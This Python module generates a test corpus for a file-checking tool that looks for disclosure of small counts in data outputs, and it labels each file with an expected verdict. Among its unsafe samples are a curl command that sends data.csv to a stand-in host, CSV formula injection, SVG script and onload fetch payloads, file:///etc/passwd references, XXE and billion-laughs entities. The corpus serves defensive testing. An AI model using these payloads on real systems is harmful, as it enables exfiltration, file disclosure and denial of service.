"""A corpus of safe and unsafe files, one or more per class, generated (no binaries committed).

``build(dest)`` writes every file under ``dest`` and returns the cases: file name, expected
verdict and the rule that must be among the findings (None: no particular rule). Run as a script
to write the corpus to a directory and see what it holds:
``uv run python tests/corpus/files/file_corpus.py /tmp/corpus``.
"""

from __future__ import annotations

import base64
import io
import json
import pickle
import sqlite3
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Case:
    name: str
    status: str  # pass | review | fail
    rule: str | None
    why: str
    companions: tuple[str, ...] = ()


def png_bytes(size: tuple[int, int] = (32, 24), text: dict[str, str] | None = None) -> bytes:
    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    im = Image.new("RGB", size, (200, 30, 30))
    for x in range(size[0]):
        im.putpixel((x, x % size[1]), (0, 0, 255))
    info = PngInfo()
    for k, v in (text or {}).items():
        info.add_text(k, v)
    buf = io.BytesIO()
    im.save(buf, "PNG", pnginfo=info)
    return buf.getvalue()


def png_with_chunk(ctype: bytes, body: bytes) -> bytes:
    """A PNG with one extra chunk inserted just before IEND."""
    data = png_bytes()
    iend = data.rindex(b"IEND") - 4
    chunk = struct.pack(">I", len(body)) + ctype + body
    chunk += struct.pack(">I", zlib.crc32(ctype + body) & 0xFFFFFFFF)
    return data[:iend] + chunk + data[iend:]


def jpeg_bytes(exif: bool = False, comment: bytes | None = None) -> bytes:
    from PIL import Image

    im = Image.new("RGB", (40, 30), (10, 120, 200))
    buf = io.BytesIO()
    kwargs: dict = {"quality": 90}
    if exif:
        ex = Image.Exif()
        ex[0x010E] = "patient 3 of 7, diagnosed 2019"  # ImageDescription
        ex[0x013B] = "Dr Someone"  # Artist
        kwargs["exif"] = ex.tobytes()
    if comment is not None:
        kwargs["comment"] = comment
    im.save(buf, "JPEG", **kwargs)
    return buf.getvalue()


def notebook(cells: list[dict]) -> str:
    return json.dumps(
        {
            "cells": cells,
            "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    )


def code_cell(source: str, outputs: list[dict]) -> dict:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": source,
        "outputs": outputs,
    }


def stream(text: str) -> dict:
    return {"output_type": "stream", "name": "stdout", "text": text}


def result(data: dict) -> dict:
    return {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": data}


def xlsx_bytes(kind: str) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "counts"
    ws.append(["region", "count"])
    for region, n in (("north", 123), ("south", 97), ("east", 61), ("west", 44)):
        ws.append([region, n])
    if kind == "hidden":
        hidden = wb.create_sheet("raw")
        hidden.append(["patient", "age"])
        hidden.append(["P1", 3])
        hidden.sheet_state = "hidden"
    elif kind == "formula":
        ws["C1"] = "share"
        ws["C2"] = "=B2/SUM(B2:B5)"
    elif kind == "external":
        ws["C2"] = "='[other.xlsx]Sheet1'!A1"
    elif kind == "small":
        ws.append(["centre", 3])
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()
    if kind == "macro":
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
            for item in src.infolist():
                dst.writestr(item, src.read(item.filename))
            dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 64)
        data = out.getvalue()
    return data


SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
SAFE_SVG = (
    f'{SVG_HEAD} width="100" height="50"><rect width="40" height="30" fill="red"/>'
    '<use xlink:href="#r"/><text x="5" y="45">Incidence by group</text></svg>'
)
HTML_SMALL_TABLE = (
    "<html><body><h1>Counts</h1><table><thead><tr><th>site</th><th>count</th></tr></thead>"
    "<tbody><tr><td>north</td><td>4</td></tr><tr><td>south</td><td>120</td></tr></tbody>"
    "</table></body></html>"
)
HTML_SAFE = (
    "<html><body><p>Summary of the analysis.</p><table><tr><th>site</th><th>count</th></tr>"
    "<tr><td>north</td><td>143</td></tr><tr><td>south</td><td>121</td></tr>"
    "<tr><td>east</td><td>67</td></tr><tr><td>west</td><td>58</td></tr></table></body></html>"
)
SAFE_CSV = "region,count\nnorth,143\nsouth,121\neast,67\nwest,58\n"


def build(dest: Path) -> list[Case]:
    """Write the corpus under ``dest``; return the cases."""
    dest.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(
        name: str,
        content: bytes | str,
        status: str,
        rule: str | None,
        why: str,
        companions: tuple[str, ...] = (),
    ) -> None:
        data = content.encode() if isinstance(content, str) else content
        (dest / name).write_bytes(data)
        cases.append(Case(name, status, rule, why, companions))

    # ---- tables
    add("safe_counts.csv", SAFE_CSV, "pass", None, "counts all >= 10")
    add(
        "small_counts.csv",
        "region,count\nnorth,140\nsouth,3\n",
        "fail",
        "frequency.min_cell_count",
        "a count of 3",
    )
    add("safe_counts.tsv", SAFE_CSV.replace(",", "\t"), "pass", None, "TSV counts all >= 10")
    add(
        "formula.csv",
        'region,note\nnorth,"=HYPERLINK(""http://x"",""y"")"\nsouth,ok\n',
        "fail",
        "table.formula_injection",
        "a cell starting with =",
    )
    add(
        "at_formula.csv",
        "region,note\nnorth,@SUM(1+1)\nsouth,ok\n",
        "fail",
        "table.formula_injection",
        "a cell starting with @",
    )
    add(
        "ragged.csv", 'a,b\n1,2\n3,4,5,6\n"unterminated\n', "fail", "file.unreadable", "ragged rows"
    )
    long_rows = "id_code,value\n" + "".join(f"r{i},{i % 7}\n" for i in range(6000))
    add("long.csv", long_rows, "fail", "table.max_rows", "6000 rows > max_rows")
    # ---- disguised and forbidden types
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr("data.csv", SAFE_CSV)
    add("archive_named.csv", zbuf.getvalue(), "fail", "file.type_not_allowed", "zip named .csv")
    add("data.pkl", pickle.dumps({"rows": [1, 2, 3]}), "fail", "file.type_not_allowed", "pickle")
    add(
        "pickled.txt",
        pickle.dumps([1, 2, 3], protocol=4),
        "fail",
        "file.type_not_allowed",
        "pickle named .txt",
    )
    import polars as pl

    pq = io.BytesIO()
    pl.DataFrame({"a": [1, 2, 3]}).write_parquet(pq)
    add("table_parquet.csv", pq.getvalue(), "fail", "file.type_not_allowed", "parquet as .csv")
    import duckdb

    dpath = dest / "_tmp.duckdb"
    con = duckdb.connect(str(dpath))
    con.execute("CREATE TABLE t AS SELECT 1 AS a")
    con.close()
    add("db_named.json", dpath.read_bytes(), "fail", "file.type_not_allowed", "duckdb file")
    dpath.unlink()
    spath = dest / "_tmp.sqlite"
    sq = sqlite3.connect(spath)
    sq.execute("CREATE TABLE t (a)")
    sq.commit()
    sq.close()
    add("sqlite.csv", spath.read_bytes(), "fail", "file.type_not_allowed", "sqlite as .csv")
    spath.unlink()
    add(
        "program.txt",
        b"\x7fELF\x02\x01\x01" + b"\x00" * 120,
        "fail",
        "file.type_not_allowed",
        "ELF named .txt",
    )
    add("gz.log", b"\x1f\x8b\x08\x00" + b"\x00" * 40, "fail", "file.type_not_allowed", "gzip")
    add(
        "script.txt",
        "#!/bin/sh\ncurl http://example/ -d @data.csv\n",
        "fail",
        "file.type_not_allowed",
        "shell script",
    )
    add("nul.txt", b"results\x00\x00\x01hidden", "fail", "file.type_not_allowed", "NUL bytes")
    add(
        "latin1.txt", "Résumé: 45 cases".encode("latin-1"), "fail", "file.encoding", "invalid UTF-8"
    )
    add("utf16.csv", "a,b\n1,2\n".encode("utf-16"), "fail", "file.type_not_allowed", "UTF-16")
    add("empty.csv", b"", "review", "file.empty", "empty file")
    add("picture.csv", png_bytes(), "fail", "file.type_mismatch", "a PNG named .csv")
    add("notes.py", "print('hello')\n", "review", "file.type_mismatch", ".py is not a type")
    # ---- figures
    add(
        "figure_with_table.png",
        png_bytes(),
        "pass",
        None,
        "figure + its safe table",
        companions=("figure_with_table.csv",),
    )
    (dest / "figure_with_table.csv").write_text(SAFE_CSV)
    add(
        "figure_small_table.png",
        png_bytes(),
        "fail",
        "frequency.min_cell_count",
        "figure whose table has a small count",
        companions=("figure_small_table.csv",),
    )
    (dest / "figure_small_table.csv").write_text("region,count\nnorth,140\nsouth,2\n")
    add("figure_alone.png", png_bytes(), "review", "figure.no_table", "no table supplied")
    add(
        "matplotlib_like.png",
        png_bytes(text={"Software": "matplotlib version3.9"}),
        "review",
        "figure.no_table",
        "a benign Software tag only",
    )
    add(
        "text_chunk.png",
        png_bytes(text={"Comment": "north 3, south 4"}),
        "review",
        "figure.metadata",
        "a tEXt comment",
    )
    payload = zlib.compress(("patient,age\n" + "P1,3\n" * 400).encode())
    add(
        "ztxt_payload.png",
        png_with_chunk(b"zTXt", b"data\x00\x00" + payload),
        "fail",
        "figure.metadata",
        "a compressed table in zTXt",
    )
    add(
        "exif_chunk.png",
        png_with_chunk(b"eXIf", b"MM\x00*" + b"\x00" * 40),
        "review",
        "figure.metadata",
        "eXIf chunk",
    )
    add(
        "appended.png",
        png_bytes() + b"PK\x03\x04hidden rows",
        "fail",
        "figure.appended_data",
        "data after IEND",
    )
    add("truncated.png", png_bytes()[:60], "fail", "file.unreadable", "truncated PNG")
    bad = bytearray(png_bytes())
    bad[40] ^= 0xFF
    add("corrupt.png", bytes(bad), "fail", "file.unreadable", "bad CRC")
    add("clean.jpg", jpeg_bytes(), "review", "figure.no_table", "plain JPEG")
    add("exif.jpg", jpeg_bytes(exif=True), "review", "figure.metadata", "EXIF")
    add(
        "comment.jpeg",
        jpeg_bytes(comment=b"3 deaths in centre B"),
        "review",
        "figure.metadata",
        "JPEG COM",
    )
    add(
        "appended.jpg",
        jpeg_bytes() + b"secret,rows\n1,2\n",
        "fail",
        "figure.appended_data",
        "data after EOI",
    )
    add("truncated.jpg", jpeg_bytes()[:200], "fail", "file.unreadable", "truncated JPEG")
    add("drawing.svg", SAFE_SVG, "review", "figure.no_table", "a plain SVG")
    add(
        "script.svg",
        f"{SVG_HEAD}><script>alert(1)</script></svg>",
        "fail",
        "svg.script",
        "script element",
    )
    add(
        "onload.svg",
        f'{SVG_HEAD} onload="fetch(1)"><rect/></svg>',
        "fail",
        "svg.event_handler",
        "event handler",
    )
    add(
        "foreign.svg",
        f"{SVG_HEAD}><foreignObject><p>hi</p></foreignObject></svg>",
        "fail",
        "svg.foreign_object",
        "foreignObject",
    )
    add(
        "external.svg",
        f'{SVG_HEAD}><image xlink:href="http://evil.example/x.png"/></svg>',
        "fail",
        "svg.external_reference",
        "external href",
    )
    add(
        "file_ref.svg",
        f'{SVG_HEAD}><use href="file:///etc/passwd#x"/></svg>',
        "fail",
        "svg.external_reference",
        "file: href",
    )
    add(
        "data_ref.svg",
        f'{SVG_HEAD}><image href="data:text/csv;base64,YSxiCjEsMgo="/></svg>',
        "fail",
        "svg.external_reference",
        "data: href",
    )
    add(
        "css_url.svg",
        f'{SVG_HEAD}><rect style="fill:url(http://x.example/a)"/></svg>',
        "fail",
        "svg.external_reference",
        "CSS url()",
    )
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        f"{SVG_HEAD}><text>&lol3;</text></svg>"
    )
    add("laughs.svg", laughs, "fail", "file.unreadable", "billion laughs")
    add(
        "xxe.svg",
        '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f"{SVG_HEAD}><text>&x;</text></svg>",
        "fail",
        "file.unreadable",
        "external entity",
    )
    add("broken.svg", f"{SVG_HEAD}><rect></svg>", "fail", "file.unreadable", "malformed XML")
    add(
        "metadata.svg",
        f"{SVG_HEAD}><metadata>creator: someone</metadata><rect/></svg>",
        "review",
        "figure.metadata",
        "SVG metadata",
    )
    # ---- text
    add(
        "years.md",
        "# Method\nData from 2010-2014, analysed in 2024 with version 1.2.3.\n",
        "pass",
        None,
        "years and versions only",
    )
    add(
        "counts.txt",
        "Overall 145 children were included; 12.5% relapsed.\n",
        "review",
        "text.numbers",
        "counts in prose",
    )
    add(
        "small.log",
        "2026-01-02 10:00:01 INFO 3 patients excluded\n",
        "fail",
        "text.small_count",
        "small count in a log",
    )
    add("plain.txt", "No numbers here at all.\n", "pass", None, "no numbers")
    add(
        "blob.txt",
        "payload: " + base64.b64encode(b"patient,age\n" * 40).decode() + "\n",
        "fail",
        "encoded.blob",
        "base64 in text",
    )
    # ---- JSON
    add(
        "records.json",
        json.dumps([{"region": "north", "count": 140}, {"region": "south", "count": 4}]),
        "fail",
        "frequency.min_cell_count",
        "JSON records with a small count",
    )
    add("deep.json", "[" * 100_000 + "]" * 100_000, "fail", "file.unreadable", "nested 10^5 deep")
    add("bad.json", '{"a": [1, 2', "fail", "file.unreadable", "truncated JSON")
    # ---- notebooks
    add(
        "safe.ipynb",
        notebook(
            [
                {"cell_type": "markdown", "metadata": {}, "source": "# Incidence analysis"},
                code_cell("print('done')", [stream("done\n")]),
            ]
        ),
        "pass",
        None,
        "no outputs of concern",
    )
    add(
        "value_counts.ipynb",
        notebook(
            [
                code_cell(
                    "df['site'].value_counts()",
                    [
                        result(
                            {
                                "text/plain": (
                                    "site\nnorth    140\nsouth      3\nName: count, dtype: int64"
                                )
                            }
                        )
                    ],
                ),
            ]
        ),
        "fail",
        "frequency.min_cell_count",
        "a printed Series with a count of 3",
    )
    add(
        "pandas_html.ipynb",
        notebook(
            [
                code_cell("df", [result({"text/html": HTML_SMALL_TABLE, "text/plain": "..."})]),
            ]
        ),
        "fail",
        "frequency.min_cell_count",
        "an HTML table output with a count of 4",
    )
    polars_repr = (
        "shape: (2, 2)\n┌────────┬───────┐\n│ site   ┆ count │\n│ ---    ┆ ---   │\n"
        "│ str    ┆ i64   │\n╞════════╪═══════╡\n│ north  ┆ 140   │\n│ south  ┆ 5     │\n"
        "└────────┴───────┘"
    )
    add(
        "polars.ipynb",
        notebook([code_cell("df", [result({"text/plain": polars_repr})])]),
        "fail",
        "frequency.min_cell_count",
        "a polars repr with a count of 5",
    )
    add(
        "b64_output.ipynb",
        notebook(
            [
                code_cell("print(b64)", [stream(base64.b64encode(b"id,age\n" * 60).decode())]),
            ]
        ),
        "fail",
        "encoded.blob",
        "base64 data printed",
    )
    add(
        "b64_source.ipynb",
        notebook(
            [
                code_cell("blob = '" + base64.b64encode(b"\x00\x01secret" * 30).decode() + "'", []),
            ]
        ),
        "fail",
        "encoded.blob",
        "base64 in source",
    )
    png64 = base64.b64encode(png_bytes()).decode()
    add(
        "image.ipynb",
        notebook(
            [
                code_cell(
                    "plt.show()",
                    [
                        {
                            "output_type": "display_data",
                            "metadata": {},
                            "data": {"image/png": png64, "text/plain": "<Figure>"},
                        }
                    ],
                ),
            ]
        ),
        "review",
        "figure.no_table",
        "an image output",
    )
    add(
        "image_appended.ipynb",
        notebook(
            [
                code_cell(
                    "x",
                    [
                        {
                            "output_type": "display_data",
                            "metadata": {},
                            "data": {
                                "image/png": base64.b64encode(png_bytes() + b"rows" * 10).decode()
                            },
                        }
                    ],
                ),
            ]
        ),
        "fail",
        "figure.appended_data",
        "image output with data appended",
    )
    add(
        "long_output.ipynb",
        notebook(
            [
                code_cell(
                    "for r in rows: print(r)",
                    [stream("".join(f"step {i}:" + " ok" * (i % 3) + "\n" for i in range(5200)))],
                ),
            ]
        ),
        "fail",
        "notebook.long_output",
        "5200 printed lines that are not a table",
    )
    add(
        "long_rows.ipynb",
        notebook(
            [
                code_cell(
                    "for r in rows: print(*r)",
                    [
                        stream(
                            "".join(f"record {i} value {i * 3} flag {i % 2}\n" for i in range(5200))
                        )
                    ],
                ),
            ]
        ),
        "fail",
        "table.max_rows",
        "5200 printed records",
    )
    add(
        "not_a_notebook.ipynb",
        '{"cells": "nope", "nbformat": 4}',
        "fail",
        "file.unreadable",
        "cells is not a list",
    )
    # ---- HTML
    add("safe.html", HTML_SAFE, "pass", None, "a safe table; prose without numbers")
    add("small.html", HTML_SMALL_TABLE, "fail", "frequency.min_cell_count", "an HTML small count")
    add(
        "script.html",
        "<html><body><p>Hello</p><script>fetch('/x')</script></body></html>",
        "review",
        "html.script",
        "a script",
    )
    add(
        "data_uri.html",
        '<html><body><a href="data:application/zip;base64,'
        + base64.b64encode(zbuf.getvalue()).decode()
        + '">x</a></body></html>',
        "fail",
        "encoded.blob",
        "a zip in a data URI",
    )
    # ---- spreadsheets
    add("safe.xlsx", xlsx_bytes("safe"), "pass", None, "a safe frequency table")
    add("hidden.xlsx", xlsx_bytes("hidden"), "fail", "spreadsheet.hidden_sheet", "hidden sheet")
    add("formula.xlsx", xlsx_bytes("formula"), "review", "spreadsheet.formula", "a formula")
    add(
        "external.xlsx",
        xlsx_bytes("external"),
        "fail",
        "spreadsheet.external_links",
        "a link to another workbook",
    )
    add("macro.xlsx", xlsx_bytes("macro"), "fail", "file.type_not_allowed", "vbaProject.bin")
    add("small.xlsx", xlsx_bytes("small"), "fail", "frequency.min_cell_count", "a count of 3")
    redteam(add)
    return cases


SAFE_COUNTS = (("north", 123), ("south", 97), ("east", 61), ("west", 44))


def _workbook(change=None, extra: dict[str, str] | None = None, rows=SAFE_COUNTS) -> bytes:
    """A safe workbook of ``rows``, changed by ``change(wb, ws)``, with ``extra`` parts added
    to the ZIP."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["region", "count"])
    for region, n in rows:
        ws.append([region, n])
    if change:
        change(wb, ws)
    buf = io.BytesIO()
    wb.save(buf)
    if not extra:
        return buf.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        for name, body in extra.items():
            dst.writestr(name, body)
    return out.getvalue()


def _defined_name(wb, ws) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    wb.defined_names["note"] = DefinedName("note", attr_text='"Malta: 3 children"')


def _description(wb, ws) -> None:
    wb.properties.description = "Malta: 3 children"


def _footer(wb, ws) -> None:
    ws.oddFooter.center.text = "Malta: 3 children"


def redteam(add) -> None:
    """Files that passed the checks (or got only review) when a fail was warranted, found by
    attacking them; each is now caught. Attacks with ids need an extract: test_redteam.py."""
    small_table = "region  count\nnorth  3\nsouth  140\n"
    # ---- text
    add(
        "words.txt",
        "Three children relapsed and two died.\n",
        "fail",
        "text.small_count",
        "counts of people written as words",
    )
    add(
        "only_one.md",
        "Only one child in Malta was diagnosed with hepatoblastoma.\n",
        "fail",
        "text.small_count",
        "'only one child'",
    )
    add(
        "fraction.txt",
        "Relapse occurred in 33.3% (2/6) of stage IV cases.\n",
        "fail",
        "text.small_count",
        "a count as a fraction beside its percentage",
    )
    add(
        "methods.txt",
        "The extract holds one record per child; each child has one tumour.\n",
        "pass",
        None,
        "'one record per child' counts nobody",
    )
    # ---- tables
    add(
        "second_table.csv",
        "region,count\nnorth,143\nsouth,121\n\nregion,count\nmalta,3\nnorth,140\n",
        "fail",
        "frequency.min_cell_count",
        "a second table below a blank line",
    )
    add(
        "zero_width.csv",
        "region,count\nnorth,143\nsouth,3\u200b\n",
        "fail",
        "frequency.min_cell_count",
        "a zero-width space after a small count",
    )
    add(
        "bidi.csv",
        "region,count\nnorth,143\nsouth,\u20663\u2069\n",
        "fail",
        "frequency.min_cell_count",
        "a small count wrapped in bidi isolates",
    )
    wide = ["variable"] + [f"child_{i}" for i in range(1, 13)]
    add(
        "one_child_per_column.csv",
        ",".join(wide) + "\nsex," + ",".join("FM" * 6) + "\n"
        "country,"
        + ",".join(["DE", "FR", "GB"] * 4)
        + "\nbirth_year,"
        + ",".join(str(2000 + i) for i in range(12))
        + "\n",
        "fail",
        "leak.k_anonymity",
        "row-level data transposed: one child per column",
    )
    add(
        "table_one.csv",
        "variable,overall,wilms\nsex,120 (45%),60 (40%)\nbirth_year,2004 (3.1),2005 (2.9)\n",
        "pass",
        None,
        "a Table 1 with quasi-identifier rows is not read as records",
    )
    # ---- notebooks
    add(
        "stream_per_line.ipynb",
        notebook([code_cell("print", [stream(line + "\n") for line in small_table.splitlines()])]),
        "fail",
        "frequency.min_cell_count",
        "a table printed one stream output per line",
    )
    add(
        "plain_beside_html.ipynb",
        notebook(
            [code_cell("df", [result({"text/html": "<p>ok</p>", "text/plain": small_table})])]
        ),
        "fail",
        "frequency.min_cell_count",
        "a harmless text/html beside a text/plain table",
    )
    add(
        "markdown_output.ipynb",
        notebook(
            [
                code_cell(
                    "Markdown(t)",
                    [
                        result(
                            {
                                "text/plain": "<md>",
                                "text/markdown": "| region | count |\n|---|---|\n"
                                "| north | 3 |\n| south | 140 |\n",
                            }
                        )
                    ],
                )
            ]
        ),
        "fail",
        "frequency.min_cell_count",
        "a pipe table in a text/markdown output",
    )
    add(
        "latex_output.ipynb",
        notebook(
            [
                code_cell(
                    "df.to_latex()",
                    [
                        result(
                            {
                                "text/plain": "<tex>",
                                "text/latex": "\\begin{tabular}{lr}\\toprule region & count "
                                "\\\\ \\midrule north & 3 \\\\ south & 140 \\\\ "
                                "\\bottomrule \\end{tabular}",
                            }
                        )
                    ],
                )
            ]
        ),
        "fail",
        "frequency.min_cell_count",
        "a LaTeX tabular output",
    )
    add(
        "json_output.ipynb",
        notebook(
            [
                code_cell(
                    "x",
                    [
                        result(
                            {
                                "text/plain": "<obj>",
                                "application/json": {
                                    "table": [
                                        {"region": "north", "count": 3},
                                        {"region": "south", "count": 140},
                                    ]
                                },
                            }
                        )
                    ],
                )
            ]
        ),
        "fail",
        "frequency.min_cell_count",
        "records nested in an application/json output",
    )
    add(
        "raw_cell.ipynb",
        json.dumps(
            {
                **json.loads(notebook([])),
                "cells": [
                    {
                        "cell_type": "raw",
                        "metadata": {},
                        "source": "region,count\nnorth,3\nsouth,140\n",
                    }
                ],
            }
        ),
        "fail",
        "frequency.min_cell_count",
        "CSV pasted in a raw cell",
    )
    add(
        "widget_state.ipynb",
        json.dumps(
            {
                **json.loads(notebook([code_cell("w", [])])),
                "metadata": {
                    "widgets": {
                        "state": {"m": {"value": [[f"r{i}", "F", 2004] for i in range(80)]}}
                    }
                },
            }
        ),
        "fail",
        "notebook.hidden_metadata",
        "records kept in the widget state",
    )
    add(
        "cell_metadata.ipynb",
        json.dumps(
            {
                **json.loads(notebook([])),
                "cells": [{**code_cell("x = 1", []), "metadata": {"note": "see the appendix"}}],
            }
        ),
        "review",
        "notebook.hidden_metadata",
        "a little metadata no one sees",
    )
    # ---- HTML
    add(
        "heading_then_count.html",
        "<html><body><h1>Results</h1><p>3 children relapsed</p></body></html>",
        "fail",
        "text.small_count",
        "'Results3 children': blocks ran together",
    )
    add(
        "comment.html",
        "<html><body><p>Summary</p><!-- Malta: 3 children --></body></html>",
        "fail",
        "text.small_count",
        "a count in an HTML comment",
    )
    add(
        "title_attribute.html",
        '<html><head><title>Report</title><meta name="viewport" '
        'content="initial-scale=1.0"></head><body><p title="Malta: 3 children">Summary</p>'
        "</body></html>",
        "fail",
        "text.small_count",
        "a count in a title attribute",
    )
    add(
        "attributes.html",
        '<html><head><meta name="viewport" content="initial-scale=1.0">'
        '</head><body><div data-root-id="1002" title="plot 1">'
        + HTML_SAFE[12:-14]
        + "</div></body></html>",
        "pass",
        None,
        "numbers in attributes are not counts",
    )
    # ---- figures
    add(
        "desc.svg",
        f'{SVG_HEAD} width="100" height="50"><desc>Malta: 3 children</desc>'
        '<text x="5" y="45">Incidence</text></svg>',
        "fail",
        "text.small_count",
        "a count in an SVG <desc>",
        ("safe_counts.csv",),
    )
    # ---- spreadsheets
    add(
        "defined_name.xlsx",
        _workbook(_defined_name),
        "fail",
        "text.small_count",
        "a count in a constant defined name",
    )
    add(
        "description.xlsx",
        _workbook(_description),
        "fail",
        "text.small_count",
        "a count in the document properties",
    )
    add("footer.xlsx", _workbook(_footer), "fail", "text.small_count", "a count in a footer")
    rows = "".join(f'<r sex="F" yob="{2000 + i}" days="{300 + i}"/>' for i in range(40))
    add(
        "custom_xml.xlsx",
        _workbook(extra={"customXml/item1.xml": f"<rows>{rows}</rows>"}),
        "fail",
        "spreadsheet.unexpected_part",
        "records in a custom XML part",
    )
    add(
        "pivot_cache.xlsx",
        _workbook(
            extra={
                "xl/pivotCache/pivotCacheRecords1.xml": "<pivotCacheRecords><r><s v='F'/>"
                "<n v='2004'/></r></pivotCacheRecords>"
            }
        ),
        "fail",
        "spreadsheet.pivot_cache",
        "the records behind a pivot table",
    )


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out")
    for case in build(out):
        print(f"{case.status:7} {case.rule or '-':32} {case.name:28} {case.why}")
